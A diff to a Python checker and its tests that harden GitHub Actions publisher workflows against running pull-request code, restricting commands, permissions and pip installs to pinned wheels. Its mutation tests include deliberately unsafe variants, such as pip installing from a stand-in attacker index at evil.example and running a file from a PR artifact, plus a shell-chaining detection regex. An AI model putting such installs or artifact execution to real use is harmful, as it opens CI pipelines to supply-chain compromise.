@@ -49,14 +49,25 @@ WRITERS = {("history.yml", "history-gfx950"): {"contents": "write"}, ("history.y
            # Deploys the published history to GitHub Pages (issue 27); it checks out and runs nothing of the repository.
            ("history.yml", "site-deploy"): {"pages": "write", "id-token": "write"},
            # The publishers (issue 30): the PR comment, and the issues for regressions on main.
-           ("pr-comment.yml", "post"): {"pull-requests": "write"}, ("regression-issues.yml", "file"): {"issues": "write"}}
+           ("pr-comment.yml", "post"): {"pull-requests": "write", "statuses": "write"},
+           ("regression-issues.yml", "file"): {"issues": "write"}}
 # Workflows triggered by `workflow_run` (the base repository's token after a run a PR may have
 # triggered): only these, and each must pass publisher_problems.
 PUBLISHERS = {"pr-comment.yml", "regression-issues.yml"}
 # What a publisher may read besides its write scope: the other run's artifacts and job list, its own checkout.
 PUBLISHER_READS = {"actions": "read", "contents": "read"}
-# The only commands a publisher's `run:` steps may start: this checkout's ci.notify, and gh's REST calls.
+# A job's reads beyond those: the comment's renderer lists the PR's files (does it change the gate itself?).
+PUBLISHER_EXTRA_READS = {("pr-comment.yml", "render"): {"pull-requests": "read"}}
+# The only commands a publisher's `run:` steps may start: this checkout's ci.notify (with the runner's python3, or
+# the interpreter of a venv under $RUNNER_TEMP), gh's REST calls, a venv made under $RUNNER_TEMP, and a pip install
+# into it that passes pip_install_problems.
+VENV_PYTHON = re.compile(r'^"\$RUNNER_TEMP/[\w.-]+/bin/python" ')
 PUBLISHER_COMMANDS = ("python3 -m ci.notify ", "gh api ")
+VENV_COMMAND = re.compile(r'^python3 -m venv "\$RUNNER_TEMP/[\w.-]+"$')
+CONSTRAINTS = "ci/constraints-cpu.txt"
+# The only form of pip install a publisher may run: wheels only (no package's build script runs), no dependency
+# resolution, every package named pinned with == in this checkout's constraints file, nothing but these options.
+PIP_INSTALL_OPTIONS = ("--no-deps", "--only-binary=:all:", "--constraint", CONSTRAINTS)
 # What would run a second command on an allowed line: ; & | ` $( <( and any redirection but "> $RUNNER_TEMP/...".
 SHELL_CHAINING = re.compile(r"[;&|`]|\$\(|<\(|<|>(?! \"\$RUNNER_TEMP/)")
 # Environment variables that would make python3, gh or the shell load code from elsewhere.
@@ -203,6 +214,46 @@ def _run_commands(script: str) -> list[str]:
     return [line.strip() for line in joined.splitlines() if line.strip() and not line.strip().startswith("#")]
 
 
+def pinned_packages(constraints: Path = PROJECT / CONSTRAINTS) -> set[str]:
+    """The package names ``constraints`` pins with ``==`` (lower case)."""
+    names = set()
+    for line in constraints.read_text().splitlines():
+        match = re.match(r"^([A-Za-z0-9_.-]+)==[^\s;]+\s*(#.*)?$", line.strip())
+        if match:
+            names.add(match.group(1).lower())
+    return names
+
+
+def pip_install_problems(command: str) -> list[str]:
+    """What in a publisher's ``<venv python> -m pip install ...`` line installs more than the pinned wheels."""
+    words = command.split()
+    if words[1:4] != ["-m", "pip", "install"]:
+        return [f"runs {command[:80]!r}: a venv's python runs only -m ci.notify or -m pip install"]
+    options = [w for w in words[4:] if w.startswith("-") or w == CONSTRAINTS]
+    packages = [w for w in words[4:] if w not in options]
+    problems = []
+    if sorted(options) != sorted(PIP_INSTALL_OPTIONS):
+        problems.append(f"pip install with {options}: only {' '.join(PIP_INSTALL_OPTIONS)} (wheels, no dependencies, "
+                        "this checkout's pins)")
+    unpinned = [p for p in packages if p.lower() not in pinned_packages()]
+    if unpinned or not packages:
+        problems.append(f"pip install of {unpinned or 'nothing'}: not pinned (==) in {CONSTRAINTS}")
+    return problems
+
+
+def command_problems(command: str) -> list[str]:
+    """Why a publisher may not run ``command``; [] when it may."""
+    if SHELL_CHAINING.search(command):
+        return [f"runs {command[:80]!r}: a publisher runs one command a line"]
+    if command.startswith(PUBLISHER_COMMANDS) or VENV_COMMAND.match(command):
+        return []
+    if VENV_PYTHON.match(command):
+        rest = VENV_PYTHON.sub("", command)
+        return [] if rest.startswith("-m ci.notify ") else pip_install_problems(command)
+    return [f"runs {command[:80]!r}: a publisher runs only {' / '.join(c.strip() for c in PUBLISHER_COMMANDS)}, "
+            "a venv under $RUNNER_TEMP and its pinned pip install, one command a line"]
+
+
 def publisher_problems(path: Path, writers: dict = WRITERS) -> list[str]:
     """What in a `workflow_run` publisher could run a pull request's code, or write more than it needs; [] when none."""
     workflow = _load(path)
@@ -215,7 +266,7 @@ def publisher_problems(path: Path, writers: dict = WRITERS) -> list[str]:
         if not isinstance(scopes, dict):
             problems.append(f"{job_id}: permissions {scopes!r}: name each scope")
             scopes = {}
-        allowed = {**PUBLISHER_READS, **writers.get((path.name, job_id), {})}
+        allowed = {**PUBLISHER_READS, **PUBLISHER_EXTRA_READS.get((path.name, job_id), {}), **writers.get((path.name, job_id), {})}
         extra = {k: v for k, v in scopes.items() if allowed.get(k) != v}
         if extra:
             problems.append(f"{job_id}: permissions {extra} beyond {allowed}")
@@ -243,9 +294,7 @@ def publisher_problems(path: Path, writers: dict = WRITERS) -> list[str]:
                 if CODE_LOADING_ENV.match(str(key)):
                     problems.append(f"{job_id}: {name}: sets {key}, which decides what code runs")
             for command in _run_commands(str(step.get("run", ""))):
-                if not command.startswith(PUBLISHER_COMMANDS) or SHELL_CHAINING.search(command):
-                    problems.append(f"{job_id}: {name}: runs {command[:80]!r}: a publisher runs only "
-                                    f"{' / '.join(c.strip() for c in PUBLISHER_COMMANDS)}, one command a line")
+                problems += [f"{job_id}: {name}: {p}" for p in command_problems(command)]
     return problems
 
 
@@ -504,7 +553,35 @@ PUBLISHER_MUTATIONS = {
         "a publisher runs no other action"),
     "also runs on pull_request_target": (
         "pr-comment.yml", lambda w: w["on"].update(pull_request_target=None), "pull_request_target"),
+    # The judge (issue 37): the base's gate on the PR's rounds, with only pinned wheels installed.
+    "the judge checks out the PR's head commit": (
+        "pr-comment.yml", lambda w: _step(w["jobs"]["judge"], "actions/checkout@")["with"].update(
+            ref="${{ github.event.workflow_run.head_sha }}"), "checks out"),
+    "the judge can write": (
+        "pr-comment.yml", lambda w: w["jobs"]["judge"]["permissions"].update(statuses="write"),
+        "judge: write permission"),
+    "the renderer can set statuses": (
+        "pr-comment.yml", lambda w: w["jobs"]["render"]["permissions"].update(statuses="write"),
+        "reads a pull request run's artifacts while holding ['statuses']"),
+    "the judge installs an unpinned package": (
+        "pr-comment.yml", lambda w: _run_step(w, "judge", "pip install").update(
+            run=_run_step(w, "judge", "pip install")["run"].rstrip() + " requests\n"), "pip install of ['requests']: not pinned"),
+    "the judge lets pip build from source": (
+        "pr-comment.yml", lambda w: _run_step(w, "judge", "pip install").update(
+            run=_run_step(w, "judge", "pip install")["run"].replace(" --only-binary=:all:", "")), "pip install with"),
+    "the judge installs from another index": (
+        "pr-comment.yml", lambda w: _run_step(w, "judge", "pip install").update(
+            run=_run_step(w, "judge", "pip install")["run"].replace(
+                "--no-deps", "--no-deps --index-url https://evil.example/simple")), "pip install with"),
+    "the judge's python runs a file from the artifact": (
+        "pr-comment.yml", lambda w: w["jobs"]["judge"]["steps"].append(
+            {"name": "x", "run": '"$RUNNER_TEMP/judge-venv/bin/python" "$RUNNER_TEMP/pr-artifacts/x.py"'}),
+        "a venv's python runs only"),
 }
+
+
+def _run_step(workflow: dict, job: str, text: str) -> dict:
+    return next(s for s in workflow["jobs"][job]["steps"] if text in str(s.get("run", "")))
 
 
 @pytest.mark.parametrize("mutation", sorted(PUBLISHER_MUTATIONS))
